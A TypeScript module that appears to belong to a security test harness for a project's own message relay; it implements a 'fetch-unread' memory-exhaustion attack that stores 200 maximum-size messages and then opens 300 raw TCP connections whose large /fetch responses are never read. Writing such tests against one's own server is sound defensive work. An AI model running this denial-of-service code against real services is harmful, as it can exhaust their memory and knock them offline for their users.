// Attack: one registered identity fills its room with
// 200 maximum-size messages, then opens many raw TCP connections, each sending a signed
// /fetch (limit 200) whose answer it never reads, and keeps them open. Today's relay builds
// each ~17 MB answer whole and holds it until it is sent. PROTOCOL v2 requests only.
import { connect, type Socket } from "node:net";
import { randomBytes } from "../../lib/crypto.ts";
import { b64encode } from "../../lib/encoding.ts";
import { FETCH_LIMIT_MAX, MAX_CIPHERTEXT_BYTES } from "../../lib/wire.ts";
import { pair, signed, signHeaders, type TestUser } from "../../tests/helpers/signer.ts";
import type { Attack } from "./attack.ts";

export const ROWS = 200;
export const CONNECTIONS = 300;
const SEND_CONCURRENCY = 8;

export interface FilledRoom {
  a: TestUser;
  b: TestUser;
  roomId: string;
  /** Ciphertexts the relay accepted (200 answers), in no particular order. */
  accepted: string[];
}

/** A pair room holding `rows` messages of MAX_CIPHERTEXT_BYTES each, sent `concurrency` at a time. */
export async function fillRoom(url: string, rows = ROWS, concurrency = SEND_CONCURRENCY): Promise<FilledRoom> {
  const { a, b, roomId } = await pair(url);
  const accepted: string[] = [];
  let next = 0;
  const worker = async () => {
    while (next < rows) {
      next++;
      const ciphertext = b64encode(randomBytes(MAX_CIPHERTEXT_BYTES));
      const r = await signed(url, a, "POST", "/send", { room_id: roomId, ciphertext });
      await r.arrayBuffer();
      if (r.status === 200) accepted.push(ciphertext);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return { a, b, roomId, accepted };
}

export interface Unread {
  /** Status codes of the answers that started (their first bytes arrived), e.g. {"200": 16, "429": 284}. */
  statuses(): Record<string, number>;
  close(): void;
}

/** `n` connections, each sending one signed /fetch and then reading nothing more than the status line. */
export function openUnread(url: string, u: TestUser, roomId: string, n = CONNECTIONS): Unread {
  const { hostname, port } = new URL(url);
  const counts: Record<string, number> = {};
  const sockets: Socket[] = [];
  for (let i = 0; i < n; i++) {
    const body = new TextEncoder().encode(JSON.stringify({ room_id: roomId, limit: FETCH_LIMIT_MAX }));
    const headers = signHeaders(u, "POST", "/fetch", body);
    const head =
      `POST /fetch HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\n` +
      `content-length: ${body.length}\r\n` +
      Object.entries(headers)
        .map(([k, v]) => `${k}: ${v}\r\n`)
        .join("") +
      "\r\n";
    const s = connect(Number(port), hostname, () => {
      s.write(head);
      s.write(body);
    });
    s.once("data", (chunk: Buffer) => {
      s.pause(); // the rest of the answer is never read
      const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.subarray(0, 16).toString("latin1"))?.[1] ?? "other";
      counts[status] = (counts[status] ?? 0) + 1;
    });
    s.on("error", () => {});
    sockets.push(s);
  }
  return {
    statuses: () => ({ ...counts }),
    close: () => {
      for (const s of sockets) s.destroy();
    },
  };
}

export const fetchUnread: Attack = {
  name: "fetch-unread",
  what: `${CONNECTIONS} signed /fetch (limit 200, room of ${ROWS} × 64 KiB rows) whose answers are never read`,
  async run(ctx) {
    const room = await fillRoom(ctx.url);
    ctx.note(`${room.accepted.length} of ${ROWS} maximum-size messages stored`);
    const unread = openUnread(ctx.url, room.a, room.roomId);
    try {
      await new Promise<void>((r) => {
        if (ctx.signal.aborted) return r();
        ctx.signal.addEventListener("abort", () => r(), { once: true });
      });
      const st = unread.statuses();
      const started = Object.values(st).reduce((x, y) => x + y, 0);
      const detail = Object.entries(st)
        .map(([k, v]) => `${v} × ${k}`)
        .join(", ");
      ctx.note(`${CONNECTIONS} connections: ${started} answers started (${detail || "none"})`);
    } finally {
      unread.close();
    }
  },
};
